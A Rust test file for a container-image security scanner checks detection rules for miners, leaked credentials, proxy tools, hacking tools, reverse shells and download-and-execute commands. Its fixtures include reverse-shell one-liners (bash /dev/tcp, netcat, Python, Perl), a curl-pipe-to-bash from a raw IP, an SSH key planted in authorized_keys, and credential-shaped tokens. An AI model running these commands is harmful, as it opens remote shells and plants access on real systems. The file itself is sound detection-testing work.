@@ -1,0 +1,590 @@
+//! One table per rule family: positives (keyword and confirmation both hit, with the expected
+//! confidence) and near-miss negatives (the keyword hits, the confirmation must not).
+
+use hubcensus_rules::FileKind::{self, ConfigField, Elf, Script, Text};
+use hubcensus_types::Confidence::{self, High, Low, Medium};
+
+use crate::{make, scan_as};
+
+struct Case {
+    rule: &'static str,
+    path: &'static str,
+    kind: FileKind,
+    data: String,
+    want: Option<Confidence>,
+}
+
+fn case(
+    rule: &'static str,
+    path: &'static str,
+    kind: FileKind,
+    data: impl Into<String>,
+    want: Option<Confidence>,
+) -> Case {
+    Case { rule, path, kind, data: data.into(), want }
+}
+
+fn check(cases: &[Case]) {
+    let mut failures = Vec::new();
+    for c in cases {
+        let found = scan_as(c.path, c.kind, c.data.as_bytes());
+        let got = found.iter().filter(|m| &*m.rule == c.rule).map(|m| m.confidence).max();
+        if got != c.want {
+            failures.push(format!(
+                "{} at {} ({:?}): want {:?}, got {:?} in {:?}\n  data: {:?}",
+                c.rule,
+                c.path,
+                c.kind,
+                c.want,
+                got,
+                found.iter().map(|m| (&*m.rule, m.confidence)).collect::<Vec<_>>(),
+                c.data.chars().take(160).collect::<String>()
+            ));
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} cases failed:\n{}",
+        failures.len(),
+        cases.len(),
+        failures.join("\n")
+    );
+}
+
+#[test]
+fn cryptomining() {
+    let wallet = make::monero(18, 1);
+    let sub = make::monero(42, 2);
+    check(&[
+        case(
+            "stratum_url",
+            "start.sh",
+            Script,
+            "#!/bin/sh\n./x -o stratum+tcp://pool.minexmr.com:4444 -u w\n",
+            Some(High),
+        ),
+        case("stratum_url", "c.json", Text, r#"{"url": "STRATUM+SSL://xmr.example.org:443"}"#, Some(High)),
+        case(
+            "stratum_url",
+            "usr/share/doc/x/README",
+            Text,
+            "use stratum+tcp://pool.example.com:3333",
+            Some(Low),
+        ),
+        case("stratum_url", "a.txt", Text, "the stratum+tcp:// scheme", None),
+        case("stratum_url", "a.txt", Text, "stratum tcp://pool.example.com:3333", None),
+        case("monero_wallet", "run.sh", Script, format!("#!/bin/sh\nxmrig -u {wallet} -p x\n"), Some(High)),
+        case("monero_wallet", "config.Env[0]", ConfigField, format!("WALLET={sub}"), Some(High)),
+        case("monero_wallet", "README.md", Text, format!("Donate: {wallet}"), Some(Medium)),
+        case(
+            "monero_wallet",
+            "run.sh",
+            Script,
+            format!("#!/bin/sh\nxmrig -u {} -p x\n", make::mutate(&wallet, 40)),
+            None,
+        ),
+        case("monero_wallet", "run.sh", Script, format!("#!/bin/sh\n{}\n", "4".repeat(95)), None),
+        case("monero_wallet", "run.sh", Script, format!("#!/bin/sh\nx{wallet}x\n"), None),
+        case("miner_binary_name", "usr/local/bin/xmrig", Elf, "\x7fELF", Some(High)),
+        case("miner_binary_name", "opt/XMRig", Text, "notes", Some(Medium)),
+        case("miner_binary_name", "usr/share/doc/xmrig", Text, "notes", Some(Low)),
+        case("miner_binary_name", "usr/bin/xmrigger", Elf, "\x7fELF", None),
+        case(
+            "miner_strings",
+            "usr/bin/kworker",
+            Elf,
+            "\x7fELF\0\0XMRig/6.21.0\0--donate-level\0",
+            Some(High),
+        ),
+        case("miner_strings", "usr/bin/tool", Elf, "\x7fELF\0\0xmrig\0only one miner string\0", None),
+        case("miner_strings", "notes.txt", Text, "xmrig and --donate-level", None),
+        case(
+            "miner_config",
+            "root/c3.json",
+            Text,
+            r#"{"autosave": true, "donate-level": 1, "cpu": {"huge-pages": true}, "pools": [{"algo": "rx/0", "url": "x", "user": "w"}]}"#,
+            Some(High),
+        ),
+        case("miner_config", "package.json", Text, r#"{"pools": ["a", "b"], "name": "x"}"#, None),
+        case(
+            "miner_command_line",
+            "entry.sh",
+            Script,
+            "#!/bin/sh\nexec ./app --donate-level=1 -o pool\n",
+            Some(High),
+        ),
+        case("miner_command_line", "config.Cmd", ConfigField, "./sys -a rx/0 -o pool:443", Some(High)),
+        case("miner_command_line", "entry.sh", Script, "#!/bin/sh\nexec ./app --donate 1\n", None),
+    ]);
+}
+
+#[test]
+fn embedded_keys_tokens() {
+    let ghp = make::token("ghp_", 11);
+    let npm = make::token("npm_", 12);
+    let fine: String = (0..4).map(|i| make::token("", 40 + i)).collect();
+    check(&[
+        case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={ghp}\n"), Some(High)),
+        case(
+            "github_token",
+            "config.Env[1]",
+            ConfigField,
+            format!("GH_TOKEN={}", make::token("ghs_", 3)),
+            Some(High),
+        ),
+        case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={}\n", make::mutate(&ghp, 10)), None),
+        case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={}\n", make::mutate(&ghp, 39)), None),
+        case(
+            "github_token",
+            "app/.env",
+            Text,
+            "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
+            None,
+        ),
+        case(
+            "github_token",
+            "usr/lib/python3/site-packages/gh/tests/t.py",
+            Text,
+            format!("T = '{ghp}'"),
+            Some(Low),
+        ),
+        case(
+            "npm_token",
+            "root/.npmrc",
+            Text,
+            format!("//registry.npmjs.org/:_authToken={npm}\n"),
+            Some(High),
+        ),
+        case(
+            "npm_token",
+            "root/.npmrc",
+            Text,
+            format!("//registry.npmjs.org/:_authToken={}\n", make::mutate(&npm, 20)),
+            None,
+        ),
+        case(
+            "npmrc_auth_token",
+            "root/.npmrc",
+            Text,
+            "//registry.npmjs.org/:_authToken=a8Kd93jfLq0Zx7Vb\n",
+            Some(High),
+        ),
+        case(
+            "npmrc_auth_token",
+            "root/.npmrc",
+            Text,
+            "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n",
+            None,
+        ),
+        case(
+            "npmrc_auth_token",
+            "usr/lib/node_modules/npm/docs/npmrc.md",
+            Text,
+            "//registry.npmjs.org/:_authToken=MYTOKEN1\n",
+            None,
+        ),
+        case("gitlab_token", "ci.env", Text, "GITLAB=glpat-Xk3v9QmZ2pLr7TwY1aBc\n", Some(High)),
+        case("gitlab_token", "ci.env", Text, "GITLAB=glpat-xxxxxxxxxxxxxxxxxxxx\n", None),
+        case(
+            "slack_token",
+            "bot.py",
+            Text,
+            "TOKEN = 'xoxb-2741926581-3958201746-Qw8ErT5yUi9OpAs1DfGh2Jk'",
+            Some(High),
+        ),
+        case("slack_token", "bot.py", Text, "TOKEN = 'xoxb-your-token-here'", None),
+        case(
+            "slack_webhook",
+            "notify.sh",
+            Script,
+            "#!/bin/sh\ncurl https://hooks.slack.com/services/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\n",
+            Some(High),
+        ),
+        case(
+            "slack_webhook",
+            "notify.sh",
+            Script,
+            "#!/bin/sh\ncurl https://hooks.slack.com/services/XXX/YYY/ZZZ\n",
+            None,
+        ),
+        case(
+            "google_api_key",
+            "web/app.js",
+            Text,
+            "const k = 'AIzaSyD8f3K9lmQ2xV7bN4cR1tY6uW0pE5aHjKs';",
+            Some(High),
+        ),
+        case(
+            "google_api_key",
+            "web/app.js",
+            Text,
+            "const k = 'AIzaSyXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX';",
+            None,
+        ),
+        case("stripe_live_key", "srv/.env", Text, "STRIPE=sk_live_4eC39HqLyjWDarjtT1zdp7dc9Xq\n", Some(High)),
+        case("stripe_live_key", "srv/.env", Text, "STRIPE=sk_test_4eC39HqLyjWDarjtT1zdp7dc9Xq\n", None),
+        case(
+            "github_fine_grained_token",
+            "a.env",
+            Text,
+            format!("T=github_pat_{}_{}\n", &fine[..22], &fine[22..81]),
+            Some(Medium),
+        ),
+        case(
+            "github_fine_grained_token",
+            "a.env",
+            Text,
+            format!("T=github_pat_{}_{}\n", "A".repeat(22), "b".repeat(59)),
+            None,
+        ),
+    ]);
+}
+
+#[test]
+fn embedded_keys_aws() {
+    check(&[
+        case("aws_access_key_id", "app/settings.py", Text, "KEY = 'AKIAY34FZKBOKMUTVV7A'\n", Some(Medium)),
+        case(
+            "aws_access_key_id",
+            "root/.aws/credentials",
+            Text,
+            "[default]\naws_access_key_id = AKIAY34FZKBOKMUTVV7A\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKY\n",
+            Some(High),
+        ),
+        case("aws_access_key_id", "docs.txt", Text, "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", Some(Low)),
+        case("aws_access_key_id", "x.txt", Text, "AIDAY34FZKBOKMUTVV7A is a user id", None),
+        case("aws_access_key_id", "x.txt", Text, "AKIAY34FZKBOKMUTVV71 has a 1", None),
+        case("aws_access_key_id", "x.txt", Text, "XAKIAY34FZKBOKMUTVV7AX", None),
+    ]);
+    let m = crate::scan("app/settings.py", b"KEY = 'ASIAY34FZKBOKMUTVV7A'\n");
+    let m = m.iter().find(|m| &*m.rule == "aws_access_key_id").expect("aws match");
+    assert_eq!(m.detail.get("aws_account_id").map(String::as_str), Some("609629065308"));
+    assert_eq!(m.preview, "ASIA…7A (len 20)");
+}
+
+#[test]
+fn embedded_keys_files() {
+    let pem = make::rsa_pem(600, 3);
+    let key = make::ssh_line(5);
+    let docker = format!(
+        r#"{{"auths": {{"https://index.docker.io/v1/": {{"auth": "{}"}}}}}}"#,
+        make::b64("builder:S3cr3tPassw0rd!")
+    );
+    check(&[
+        case("private_key", "root/.ssh/id_rsa", Text, pem.clone(), Some(High)),
+        case(
+            "private_key",
+            "config.Env[3]",
+            ConfigField,
+            format!("KEY={}", pem.replace('\n', "\\n")),
+            Some(High),
+        ),
+        case("private_key", "etc/ssl/private/ssl-cert-snakeoil.key", Text, pem.clone(), Some(Low)),
+        case("private_key", "usr/lib/python3/site-packages/x/tests/k.pem", Text, pem.clone(), Some(Low)),
+        case(
+            "private_key",
+            "src/keys.go",
+            Text,
+            "-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----",
+            None,
+        ),
+        case(
+            "private_key",
+            "x.pem",
+            Text,
+            "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----\n",
+            None,
+        ),
+        case("ssh_authorized_key", "root/.ssh/authorized_keys", Text, format!("{key}\n"), Some(High)),
+        case("ssh_authorized_key", "etc/ssh/known_hosts", Text, format!("host {key}\n"), None),
+        case(
+            "ssh_authorized_key",
+            "root/.ssh/authorized_keys",
+            Text,
+            "ssh-ed25519 AAAAC3NzaC1yc2EAAAADAQAB x\n",
+            None,
+        ),
+        case(
+            "ssh_key_planted_by_command",
+            "config.history[4]",
+            ConfigField,
+            format!("RUN echo '{key}' >> /root/.ssh/authorized_keys"),
+            Some(High),
+        ),
+        case(
+            "ssh_key_planted_by_command",
+            "config.history[4]",
+            ConfigField,
+            format!("RUN echo '{key}' > /tmp/key.pub"),
+            None,
+        ),
+        case("docker_registry_auth", "root/.docker/config.json", Text, docker.clone(), Some(High)),
+        case(
+            "docker_registry_auth",
+            "root/.docker/config.json",
+            Text,
+            docker.replace("auths", "other"),
+            None,
+        ),
+        case(
+            "docker_registry_auth",
+            "root/.docker/config.json",
+            Text,
+            format!(r#"{{"auths": {{"r": {{"auth": "{}"}}}}}}"#, make::b64("user:")),
+            None,
+        ),
+        case(
+            "git_credentials",
+            "root/.git-credentials",
+            Text,
+            "https://alice:ghs_Zx9Kq2Lm4Np6Rs8Tv0Wy@github.com\n",
+            Some(High),
+        ),
+        case("git_credentials", "root/.git-credentials", Text, "https://alice:${TOKEN}@github.com\n", None),
+        case("git_credentials", "notes.txt", Text, "https://alice:Zx9Kq2Lm4Np6@github.com\n", None),
+        case(
+            "pypirc_password",
+            "root/.pypirc",
+            Text,
+            "[pypi]\nusername = alice\npassword = pY8!kq2Lm4Np\n",
+            Some(High),
+        ),
+        case(
+            "pypirc_password",
+            "root/.pypirc",
+            Text,
+            "[pypi]\nusername = alice\npassword = <your password>\n",
+            None,
+        ),
+        case(
+            "kubeconfig_client_key",
+            "root/.kube/config",
+            Text,
+            format!("users:\n- user:\n    client-key-data: {}\n", make::b64(&pem)),
+            Some(High),
+        ),
+        case(
+            "kubeconfig_client_key",
+            "root/.kube/config",
+            Text,
+            format!("    client-key-data: {}\n", make::b64("not a key at all, just some text here")),
+            None,
+        ),
+        case(
+            "kubeconfig_token",
+            "root/.kube/config",
+            Text,
+            "users:\n- name: a\n  user:\n    token: eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1hY2hpbmUifQ.x9Zq\n",
+            Some(High),
+        ),
+        case(
+            "kubeconfig_token",
+            "root/.kube/config",
+            Text,
+            "users:\n- name: a\n  user:\n    token: xxxxxxxxxxxxxxxxxxxxxxxx\n",
+            None,
+        ),
+        case(
+            "url_with_password",
+            "config.Env[0]",
+            ConfigField,
+            "REPO=https://deploy:Hq7Zp2Kx9Lm@git.example.com/x.git",
+            Some(Medium),
+        ),
+        case(
+            "url_with_password",
+            "config.Env[0]",
+            ConfigField,
+            "REPO=https://user:password@git.example.com/x.git",
+            None,
+        ),
+    ]);
+}
+
+#[test]
+fn proxy_avoidance() {
+    check(&[
+        case("proxy_tool_binary", "usr/local/bin/frpc", Elf, "\x7fELF", Some(High)),
+        case("proxy_tool_binary", "usr/local/bin/gost", Script, "#!/bin/sh", Some(Medium)),
+        case("proxy_tool_binary", "usr/local/bin/frpc-helper", Elf, "\x7fELF", None),
+        case("tor_binary", "usr/bin/tor", Elf, "\x7fELF", Some(Medium)),
+        case("proxyware_binary", "app/honeygain", Elf, "\x7fELF", Some(High)),
+        case(
+            "proxy_tool_go_module",
+            "app/svc",
+            Elf,
+            "\x7fELF\0github.com/fatedier/frp/client.(*Service).Run\0",
+            Some(High),
+        ),
+        case("proxy_tool_go_module", "app/svc", Text, "github.com/fatedier/frp is great", None),
+        case(
+            "proxyware_strings",
+            "config.Cmd",
+            ConfigField,
+            "-tou-accept -email a@b.c -password x -device honeygain-1",
+            Some(High),
+        ),
+        case("proxyware_strings", "README.md", Text, "We do not use Honeygain.", Some(Medium)),
+        case("proxyware_strings", "a.sh", Script, "#!/bin/sh\necho honey gain\n", None),
+        case(
+            "frp_config",
+            "etc/frp/frpc.ini",
+            Text,
+            "[common]\nserver_addr = 1.2.3.4\nserver_port = 7000\n[ssh]\nlocal_ip = 127.0.0.1\nremote_port = 6000\n",
+            Some(High),
+        ),
+        case("frp_config", "app.ini", Text, "[db]\nserver_addr = db\n", None),
+        case(
+            "shadowsocks_config",
+            "etc/ss.json",
+            Text,
+            r#"{"server":"0.0.0.0","server_port":8388,"password":"p","method":"aes-256-gcm","fast_open":true}"#,
+            Some(High),
+        ),
+        case("shadowsocks_config", "app.json", Text, r#"{"server_port": 80, "name": "web"}"#, None),
+        case(
+            "v2ray_config",
+            "etc/v2ray/config.json",
+            Text,
+            r#"{"inbounds":[{"protocol":"vmess","streamSettings":{}}],"outbounds":[{"protocol":"freedom"}]}"#,
+            Some(High),
+        ),
+        case("v2ray_config", "app.json", Text, r#"{"outbounds": []}"#, None),
+        case(
+            "clash_config",
+            "root/.config/clash/config.yaml",
+            Text,
+            "proxies:\n  - name: a\n    type: ss\nproxy-groups:\n  - name: g\n",
+            Some(High),
+        ),
+        case("clash_config", "x.yaml", Text, "proxy-groups: []\n", None),
+        case(
+            "proxy_share_link",
+            "sub.txt",
+            Text,
+            "vmess://eyJhZGQiOiIxLjIuMy40IiwicG9ydCI6NDQzfQ==\n",
+            Some(High),
+        ),
+        case("proxy_share_link", "sub.txt", Text, "see vmess:// links\n", None),
+    ]);
+}
+
+#[test]
+fn hacking_tools() {
+    check(&[
+        case("hacking_tool_binary", "usr/bin/masscan", Elf, "\x7fELF", Some(High)),
+        case("hacking_tool_binary", "opt/sqlmap/sqlmap.py", Script, "#!/usr/bin/env python3", Some(High)),
+        case("hacking_tool_binary", "usr/bin/masscanner-notes", Elf, "\x7fELF", None),
+        case("nmap_binary", "usr/bin/nmap", Elf, "\x7fELF", Some(Medium)),
+        case(
+            "hacking_tool_strings",
+            "config.Cmd",
+            ConfigField,
+            "msfconsole -q -x 'use exploit/multi/handler'",
+            Some(High),
+        ),
+        case("hacking_tool_strings", "README.md", Text, "Do not run sqlmap against us", None),
+        case(
+            "reverse_shell_dev_tcp",
+            "config.Cmd",
+            ConfigField,
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            Some(High),
+        ),
+        case(
+            "reverse_shell_dev_tcp",
+            "healthcheck.sh",
+            Script,
+            "#!/bin/bash\nexec 3<>/dev/tcp/localhost/8080\n",
+            None,
+        ),
+        case("reverse_shell_netcat", "x.sh", Script, "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n", Some(High)),
+        case(
+            "reverse_shell_netcat",
+            "x.sh",
+            Script,
+            "#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n",
+            Some(High),
+        ),
+        case("reverse_shell_netcat", "x.sh", Script, "#!/bin/sh\nnc -z localhost 80\n", None),
+        case(
+            "reverse_shell_python",
+            "config.Cmd",
+            ConfigField,
+            r#"python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0)'"#,
+            Some(High),
+        ),
+        case(
+            "reverse_shell_python",
+            "app.py",
+            Text,
+            "import socket\ns = socket.socket()\ns.connect((host, port))\n",
+            None,
+        ),
+        case(
+            "reverse_shell_perl",
+            "config.Cmd",
+            ConfigField,
+            r#"perl -e 'use Socket;$i="10.0.0.1";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");}'"#,
+            Some(High),
+        ),
+    ]);
+}
+
+#[test]
+fn other() {
+    let eicar = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+    check(&[
+        case("known_bad_file", "tmp/eicar.com", Text, eicar, Some(High)),
+        case("known_bad_file", "tmp/eicar.com", Text, eicar.replace('X', "Y"), None),
+        case(
+            "download_exec_raw_ip",
+            "config.Cmd",
+            ConfigField,
+            "curl -s http://45.9.148.35/x.sh | bash",
+            Some(High),
+        ),
+        case(
+            "download_exec_raw_ip",
+            "i.sh",
+            Script,
+            "#!/bin/sh\nwget -qO- 103.1.2.3:8080/a | sh\n",
+            Some(High),
+        ),
+        case(
+            "download_exec_raw_ip",
+            "i.sh",
+            Script,
+            "#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n",
+            None,
+        ),
+        case(
+            "download_exec_url",
+            "i.sh",
+            Script,
+            "#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n",
+            Some(Low),
+        ),
+        case("download_exec_url", "i.sh", Script, "#!/bin/sh\ncurl -o x https://get.docker.com\n", None),
+    ]);
+}
+
+#[test]
+fn hosts() {
+    let judge = |host: &str| {
+        let mut out = Vec::new();
+        crate::rules().judge_host(host, &mut out);
+        out.into_iter().map(|m| (m.rule.to_string(), m.confidence)).collect::<Vec<_>>()
+    };
+    assert_eq!(judge("evil.duckdns.org"), vec![("dynamic_dns_host".to_owned(), High)]);
+    assert_eq!(judge("EVIL.DuckDNS.org."), vec![("dynamic_dns_host".to_owned(), High)]);
+    assert_eq!(judge("www.duckdns.org"), vec![("dynamic_dns_host".to_owned(), Medium)]);
+    assert_eq!(judge("a.b.no-ip.org"), vec![("dynamic_dns_host".to_owned(), High)]);
+    assert_eq!(judge("pool.supportxmr.com"), vec![("mining_pool_domain".to_owned(), High)]);
+    assert_eq!(judge("abc123.ngrok-free.app"), vec![("tunnel_service_domain".to_owned(), High)]);
+    assert_eq!(judge("ngrok.com"), vec![("tunnel_service_domain".to_owned(), Medium)]);
+    assert_eq!(judge("update.honeygain.com"), vec![("proxyware_domain".to_owned(), High)]);
+    for clean in ["duckdns.org.example.com", "notduckdns.org", "github.com", "org", "", "localhost"] {
+        assert!(judge(clean).is_empty(), "{clean}");
+    }
+}
